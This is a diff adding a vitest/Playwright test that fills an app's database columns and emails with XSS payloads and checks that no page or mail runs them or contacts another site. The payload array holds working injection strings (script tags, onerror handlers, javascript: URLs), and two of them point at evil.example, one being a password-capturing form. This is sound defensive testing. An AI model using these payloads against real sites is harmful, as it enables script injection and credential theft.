@@ -1,0 +1,200 @@
+// Class 8: text that would be a script, in every text a page or a mail shows, and every page opened in a browser.
+import { existsSync } from 'node:fs';
+import { join } from 'node:path';
+import { type Browser, chromium } from 'playwright-core';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { showEmail } from '../../src/care/contact/channel/email.channel.ts';
+import { writeLeaveToken } from '../../src/care/contact/token.ts';
+import { openSession } from '../../src/care/staff/session.data.ts';
+import { makeApp } from '../../src/entry/app.ts';
+import { type Listener, listen } from '../../src/entry/listen.ts';
+import { newId } from '../../src/kernel/id.ts';
+import { mailSettingShape } from '../../src/platform/mail/sender.ts';
+import { type Planted, plant } from './plant.ts';
+import { openTown, someoneWithPassword, type Town } from './town.ts';
+
+const found = ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'].find(existsSync);
+const browserPath = process.env.CHROMIUM_PATH ?? found;
+const built = existsSync(join(import.meta.dirname, '../../dist/desk/index.html'));
+
+const payloads = [
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  "'><svg/onload=alert(1)>",
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  'javascript:alert(1)',
+  '<a href="javascript:alert(1)">x</a>',
+  '</title><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '</style><script>alert(1)</script>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '{{constructor.constructor("alert(1)")()}}',
+  '<details open ontoggle=alert(1)>',
+  '<body onload=alert(1)>',
+  '\u003cimg src=x onerror=alert(1)\u003e',
+  '&lt;img src=x onerror=alert(1)&gt;',
+  '<b id=hostile-markup>x</b>',
+  '<style>*{background:url(//evil.example/x)}</style>',
+  '<form action=https://evil.example><input name=password autofocus onfocus=alert(1)>',
+  "-->']]><script>alert(1)</script>",
+];
+/** All of them in one text, as far as the column takes it. */
+const all = payloads.join(' ');
+
+let town: Town;
+let planted: Planted;
+let listener: Listener | undefined;
+let browser: Browser | undefined;
+let cookie: string;
+
+/** Puts the payloads into every column that holds words, of every table a page may read. */
+const poison = async (): Promise<number> => {
+  const { pool } = town.house.database;
+  const { rows } = await pool.query<{ table: string; column: string }>(`
+    SELECT c.table_name AS table, c.column_name AS column FROM information_schema.columns c
+    JOIN information_schema.tables t USING (table_schema, table_name)
+    WHERE c.table_schema = 'public' AND t.table_type = 'BASE TABLE' AND c.data_type = 'text'
+      AND c.column_name IN ('name', 'given_name', 'family_name', 'title', 'city', 'region', 'subject', 'words', 'answer', 'description', 'file_name',
+        'user_agent', 'recipient_name', 'because', 'note', 'wording', 'reason', 'number', 'value')
+      AND c.table_name NOT IN ('identity', 'field_source')`);
+  for (const { table, column } of rows) {
+    const own = column === 'number' || table === 'product' ? ` || ' ' || gen_random_uuid()` : '';
+    // columns that only take words of ours refuse, and that is as good
+    await pool.query(`UPDATE "${table}" SET "${column}" = $1${own} WHERE "${column}" IS NOT NULL`, [all]).catch(() => undefined);
+  }
+  await pool.query('UPDATE customer SET custom = $1, given_name = $2, title = $2, city = $2', [
+    JSON.stringify({ [payloads[0] ?? '']: all }),
+    all,
+  ]);
+  await pool.query(`UPDATE event SET data = data || jsonb_build_object('words', $1::text, 'subject', $1::text, 'number', $1::text)`, [all]);
+  await pool.query('UPDATE import_error SET cells = $1', [JSON.stringify([all])]);
+  return rows.length;
+};
+
+beforeAll(async () => {
+  town = await openTown();
+  planted = await plant(town, town.a, town.b.customerId);
+  const owner = await someoneWithPassword(town, 'owner', null);
+  for (const userAgent of payloads.slice(0, 3))
+    await town.house.db
+      .transaction()
+      .execute((tx) => openSession(tx, { staffId: owner.staffId, openedBy: 'password', userAgent, address: '' }, town.house.clock.now()));
+  const views = payloads.slice(0, 3).map((query) => ({ screen: 'customers', name: query.slice(0, 60), query: `q=${query}`, shared: true }));
+  for (const body of views) await owner.ask('post', '/api/v1/views', { body });
+  expect(await poison()).toBeGreaterThan(15);
+  const { word } = await town.house.db
+    .transaction()
+    .execute((tx) =>
+      openSession(tx, { staffId: owner.staffId, openedBy: 'password', userAgent: 'x', address: '' }, town.house.clock.now()),
+    );
+  cookie = word;
+  if (!browserPath || !built) return;
+  listener = await listen(0, '127.0.0.1');
+  town.house.baseUrl = `http://127.0.0.1:${listener.port}`;
+  const app = await makeApp(town.house, { ready: () => true });
+  listener.answerWith((request, env) => app.fetch(request, env as object));
+  browser = await chromium.launch({
+    executablePath: browserPath,
+    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run'],
+  });
+});
+afterAll(async () => {
+  await browser?.close();
+  await listener?.close();
+  await town.close();
+});
+
+const screens = (): string[] => [
+  '/desk/',
+  '/desk/customers',
+  `/desk/customers?q=${encodeURIComponent(payloads[1] ?? '')}`,
+  `/desk/customers/${planted.customerId}`,
+  `/desk/customers/${planted.customerId}#${encodeURIComponent(payloads[1] ?? '')}`,
+  ...['outbox', `outbox/${planted.deliveryId}`, 'requests', 'outlook', 'templates', 'policy', 'mail'].map((tab) => `/desk/contacts/${tab}`),
+  '/desk/programmes',
+  `/desk/programmes/${town.a.programmeId}`,
+  '/desk/imports',
+  `/desk/imports/${planted.importId}`,
+  ...['account', 'sessions', 'people', 'companies', 'costs', 'tokens', 'audit'].map((tab) => `/desk/settings/${tab}`),
+  '/desk/sign-in?next=javascript:alert(1)',
+  `/desk/${encodeURIComponent(payloads[1] ?? '')}`,
+];
+
+const leave = () => `/u/${writeLeaveToken(town.house.secret, { customerId: planted.customerId, deliveryId: newId(), purpose: 'give' })}`;
+
+const mailOf = (): string => {
+  const head = { secret: town.house.secret, baseUrl: 'https://tea.example', company: all, setting: mailSettingShape.parse({}) };
+  const one = {
+    customerId: newId(),
+    deliveryId: newId(),
+    language: 'en',
+    subject: all,
+    words: payloads.join('\n\n'),
+    purpose: 'give' as const,
+  };
+  return showEmail(head, { ...one, recipient: 'ann@example.com', recipientName: all }).html;
+};
+
+test.skipIf(!browserPath || !built)(
+  'no page and no mail runs what was typed, and no page asks another site for anything',
+  async () => {
+    const context = await (browser as Browser).newContext({ baseURL: town.house.baseUrl });
+    await context.addCookies([{ name: 'teahouse', value: cookie, url: town.house.baseUrl }]);
+    const wrong: string[] = [];
+    const shown: string[] = [];
+    await context.addInitScript(() => {
+      document.addEventListener('securitypolicyviolation', (event) =>
+        console.error(`policy: ${event.violatedDirective} ${event.blockedURI}`),
+      );
+    });
+    const page = await context.newPage();
+    let at = '';
+    page.on('dialog', (dialog) => {
+      wrong.push(`${at}: a dialog`);
+      dialog.dismiss().catch(() => undefined);
+    });
+    page.on('console', (line) => {
+      if (/^policy: |Content Security Policy/.test(line.text())) wrong.push(`${at}: ${line.text()}`);
+    });
+    page.on('request', (request) => {
+      if (!/^(data|blob|about):/.test(request.url()) && !request.url().startsWith(town.house.baseUrl))
+        wrong.push(`${at}: asks ${request.url()}`);
+    });
+    for (const path of [
+      ...screens(),
+      leave(),
+      `${leave()}?lang=zh`,
+      '/',
+      '/?lang=zh',
+      `/u/${encodeURIComponent(payloads[0] ?? '')}`,
+      '/api',
+    ]) {
+      at = path;
+      await page.goto(path, { waitUntil: 'load' });
+      await page.waitForLoadState('networkidle', { timeout: 2500 }).catch(() => undefined);
+      if ((await page.locator('#hostile-markup').count()) > 0) wrong.push(`${at}: markup of a customer's became markup of ours`);
+      if ((await page.locator('body').innerText()).includes('alert(1)')) shown.push(path);
+    }
+    at = 'the mail';
+    await page.setContent(mailOf(), { waitUntil: 'load' });
+    expect(await page.locator('#hostile-markup, script, iframe, form, img, svg').count()).toBe(0);
+    expect(await page.locator('[onerror], [onload], [href^="javascript:"]').count()).toBe(0);
+    await context.close();
+    expect(wrong).toEqual([]);
+    // the pages were really there, with the words on them
+    expect(shown.length, shown.join(' ')).toBeGreaterThan(8);
+  },
+  120_000,
+);
+
+test('the pages of the server and the mails escape every word by themselves, before any policy of a browser', async () => {
+  const app = await makeApp(town.house, { ready: () => true });
+  for (const path of ['/', '/?lang=zh', leave(), `${leave()}?lang=zh`, '/api']) {
+    const answer = await app.request(`${town.house.baseUrl}${path}`);
+    const text = await answer.text();
+    expect(text, path).not.toMatch(/<script>alert|<img src=x|<svg\/onload|<b id=hostile|<iframe srcdoc/);
+    expect(answer.headers.get('content-security-policy'), path).toBeTruthy();
+  }
+  expect(mailOf()).not.toMatch(/<script|<img|<svg|<iframe|<b id=hostile|href="javascript/);
+});
